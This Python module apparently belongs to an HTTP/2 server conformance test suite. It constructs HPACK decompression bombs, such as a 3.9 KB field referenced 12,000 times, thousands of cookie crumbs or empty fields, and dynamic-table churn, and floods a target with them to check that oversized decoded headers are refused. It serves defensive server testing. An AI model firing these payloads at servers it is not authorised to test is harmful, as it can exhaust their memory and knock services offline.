"""Few bytes that become many fields: HPACK bombs and the HTTP/2 bomb (RFC 7541, section 7.3; RFC 9113, section 10.5.1).

The client lets nothing of the answer go (a window of zero), so what was decoded would stay. Bounds of peers: 100
fields (Apache, h2o), 1,000 (nginx); 8 to 64 KiB decoded, Go 1 MiB.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from securelight.conformance import hpack_bytes, http2_frames as frames, polite_client
from securelight.conformance.case import Failed, Topic
from securelight.conformance.http2_attacker import Flood
from securelight.conformance.polite_client import watched

if TYPE_CHECKING:
    from collections.abc import Callable

    from securelight.conformance.case import Question
    from securelight.conformance.dial import Dial
    from securelight.conformance.target import Target

BOMBS = Topic(
    "Header blocks that grow when they are decoded",
    rfc=0,
    why="One index of one byte stands for a field of kilobytes, or for an object of its own: a thousandfold growth.",
    cure="Count decoded bytes and fields, each crumb of Cookie too, and refuse the request before it has a copy.",
    abuse=True,
)
REQUESTS = 20
_ZERO_WINDOW = {frames.INITIAL_WINDOW_SIZE: 0}
_BIG, _TINY = b"h" * 3_900, b"h"
_NEWEST = hpack_bytes.indexed(hpack_bytes.FIRST_DYNAMIC)
_REFERENCE = 12_000


def _in_frames(stream_id: int, block: bytes) -> bytes:
    size = frames.DEFAULT_FRAME_BYTES
    pieces = [block[place : place + size] for place in range(0, len(block), size)]
    first = frames.headers(stream_id, pieces[0], end_headers=len(pieces) == 1)
    rest = [
        frames.continuation(stream_id, piece, end_headers=place == len(pieces) - 1)
        for place, piece in enumerate(pieces[1:], 1)
    ]
    return first + b"".join(rest)


def _requests(first: bytes, rest: bytes) -> Callable[[Target], list[bytes]]:
    def items(target: Target) -> list[bytes]:
        good = hpack_bytes.request_to(target)
        return [_in_frames(2 * number + 1, good + (rest if number else first + rest)) for number in range(REQUESTS)]

    return items


def _bomb(what: str, items: Callable[[Target], list[bytes]]) -> Question:
    async def attack(dial: Dial) -> str:
        usual = dial.baseline.status or 200
        attacker = await Flood(what, items, settings=_ZERO_WINDOW).run(dial)
        statuses = attacker.statuses
        served = [status for status in statuses if status == usual]
        if served and not attacker.over:
            raise Failed(f"{len(served)} of {REQUESTS} x {what} were answered as if they were good: {attacker.words}")
        return f"{REQUESTS} x {what} were refused ({', '.join(map(str, sorted(set(statuses)))) or 'no answer'}): " + (
            attacker.words
        )

    return watched()(attack)


_CASES: dict[str, tuple[str, bytes, bytes]] = {
    "CVE-2016-6581/hpack-bomb": (
        "12,000 references to a field of 3.9 KB",
        hpack_bytes.literal(b"tide", _BIG, hpack_bytes.INCREMENTAL), _NEWEST * _REFERENCE,
    ),
    "CVE-2026-49975/tiny-fields": (
        "8,000 references to a field of one byte",
        hpack_bytes.literal(b"t", _TINY, hpack_bytes.INCREMENTAL), _NEWEST * 8_000,
    ),
    "CVE-2026-49975/cookie-crumbs": (
        "8,000 crumbs of Cookie",
        hpack_bytes.literal(32, b"a=1", hpack_bytes.INCREMENTAL), _NEWEST * 8_000,
    ),
    "CVE-2026-49975/static-fields": (
        "8,000 times accept-encoding by its index",
        b"", hpack_bytes.indexed(16) * 8_000,
    ),
    "CVE-2025-53020/repeated-name": (
        "4,000 fields of one name, with values of three bytes",
        b"", b"".join(hpack_bytes.literal(b"tide", b"%03x" % (number & 0xFFF)) for number in range(4_000)),
    ),
    "CVE-2026-49975/many-names": (
        "4,000 fields of different names",
        b"", b"".join(hpack_bytes.literal(b"t%x" % number, b"") for number in range(4_000)),
    ),
    "CVE-2019-9516/empty-names": (
        "2,000 fields without a name and a value",
        b"", hpack_bytes.literal(b"", b"") * 2_000,
    ),
    "CVE-2016-6581/large-value": (
        "a field of 200 KB",
        b"", hpack_bytes.literal(b"tide", b"h" * 200_000),
    ),
}  # fmt: skip
for _key, (_words, _first, _rest) in _CASES.items():
    BOMBS.must(f"abuse/{_key}", f"A request with {_words}", seconds=polite_client.CASE_SECONDS)(
        _bomb(f"a request with {_words}", _requests(_first, _rest))
    )


@BOMBS.must(
    "abuse/CVE-2016-6581/table-churn", "500 requests that resize the dynamic table to nothing and back, and refill it",
    seconds=polite_client.CASE_SECONDS,
)  # fmt: skip
@watched()
async def table_churn(dial: Dial) -> str:
    """All of it is legal: the server answers at little cost, or ends the connection."""

    def items(target: Target) -> list[bytes]:
        sizes = hpack_bytes.size_update(0) + hpack_bytes.size_update(4_096)
        entries = b"".join(hpack_bytes.literal(b"t%d" % one, b"", hpack_bytes.INCREMENTAL) for one in range(60))
        block = sizes + hpack_bytes.request_to(target) + entries
        return [frames.headers(2 * number + 1, block) for number in range(500)]

    attacker = await Flood("a request that refills the table", items).run(dial)
    return f"{attacker.sent} sent: {attacker.words}"
